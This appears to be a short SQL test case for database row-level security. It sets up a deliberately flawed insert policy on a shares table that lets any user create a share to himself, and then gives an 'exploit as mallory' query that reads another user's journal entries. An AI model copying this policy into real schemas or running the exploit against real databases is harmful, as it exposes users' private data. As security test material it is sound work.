-- channel: escalation
-- object: public.shares
-- says: The receiver may create the share, so everybody opens any journal to himself.
grant insert (owner_id) on public.shares to authenticated;
create policy shares_request on public.shares for insert to authenticated
with check (shared_with = (select auth.uid()));
-- exploit as mallory
insert into public.shares (journal_id, owner_id, shared_with)
values ('b5000000-0000-4000-8000-000000000001', :bob, :mallory);
select from public.entries where user_id = :bob;
-- leaks when rows
